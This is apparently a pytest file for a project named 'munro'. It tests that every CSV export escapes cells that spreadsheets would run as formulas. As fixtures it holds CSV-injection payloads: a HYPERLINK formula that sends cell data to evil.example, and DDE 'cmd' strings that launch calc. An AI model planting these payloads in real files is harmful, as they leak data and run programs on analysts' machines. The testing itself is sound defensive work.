"""No CSV munro writes runs as a formula when an analyst opens it (issue 19, finding 7).

A child's ID, a file name or a label typed by someone else can begin with ``=``, ``+``, ``-``, ``@``, a tab or a
carriage return; Excel and LibreOffice then take the cell as a formula (``=HYPERLINK(...)`` sends data away,
``=cmd|...`` ran programs in older versions). OWASP's advice: prefix such text with an apostrophe.
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path
from types import SimpleNamespace

import pytest

from munro.output import csv_writer, safe_cell

SRC = Path(__file__).resolve().parents[1] / "src" / "munro"


@pytest.mark.parametrize("value, expected", [
    ("=HYPERLINK(\"http://evil.example/?\"&A1)", "'=HYPERLINK(\"http://evil.example/?\"&A1)"),
    ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("-", "'-"),
    # numbers, as numbers or as the text of a number, are left alone: a negative change stays a number
    (-3, -3),
    (-0.5, -0.5),
    ("-3", "-3"),
    ("-0.5%", "-0.5%"),
    ("+1,234.5", "+1,234.5"),
    ("-1e-3", "-1e-3"),
    # ordinary text, and text with the characters later on
    ("C000123", "C000123"),
    ("2024-05-01", "2024-05-01"),
    ("a=b", "a=b"),
    ("", ""),
    (None, None),
])
def test_a_cell_that_a_spreadsheet_would_run_is_made_text(value, expected):
    assert safe_cell(value) == expected


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_the_writer_neutralises_every_cell_of_every_row():
    out = io.StringIO()
    w = csv_writer(out, lineterminator="\n")
    w.writerow(["child", "value"])
    w.writerows([["=1+1", -2], ["@x", "-7"]])
    assert _rows(out.getvalue()) == [["child", "value"], ["'=1+1", "-2"], ["'@x", "-7"]]


def test_validation_findings_as_csv_carry_a_hostile_child_id_as_text(cin, write):
    from munro.validate import validate_file
    from munro.validate.output import to_csv

    hostile = "=HYPERLINK(1)"
    # No date of birth: the child has findings, so its ID is in the CSV.
    path = write("cin.xml", cin.xml(2024, [cin.Child(id=hostile, birth=None)]))
    rows = _rows(to_csv([validate_file(path)]))
    ids = {cell for row in rows[1:] for cell in row if "HYPERLINK" in cell}
    assert ids == {"'" + hostile}


def test_the_unmatched_children_file_carries_hostile_ids_as_text(tmp_path):
    from munro.localdata.matching import write_report

    target = write_report(tmp_path / "visits.csv.unmatched.csv", tmp_path / "visits.csv", "visits", "201",
                          ["=1+1", "@SUM(A1)", "C1"])
    rows = _rows(target.read_text(encoding="utf-8"))
    assert [r[1] for r in rows[1:]] == ["'=1+1", "'@SUM(A1)", "C1"]


def test_a_charts_table_as_csv_carries_hostile_labels_as_text():
    from munro.web.data import chart_csv

    chart = SimpleNamespace(columns=["Team", "Children"], rows=[["=cmd|' /C calc'!A0", "4"], ["North", "-1"]])
    assert _rows(chart_csv(chart)) == [["Team", "Children"], ["'=cmd|' /C calc'!A0", "4"], ["North", "-1"]]


# Where a plain csv.writer is right: files no person opens (PostgreSQL's COPY) and munro's own reference data.
RAW_CSV_ALLOWED = {"calendar.py", "store/export.py"}


def test_every_csv_for_people_is_written_through_the_one_safe_writer():
    """A new CSV output cannot forget: ``csv.writer`` and ``csv.DictWriter`` appear only where allowed."""
    raw = {str(p.relative_to(SRC)) for p in SRC.rglob("*.py")
           if re.search(r"csv\.(writer|DictWriter)\(", p.read_text(encoding="utf-8"))}
    raw -= {"output.py"}  # the safe writer itself
    assert raw <= RAW_CSV_ALLOWED | {p for p in raw if p.startswith("synth/")}, raw - RAW_CSV_ALLOWED
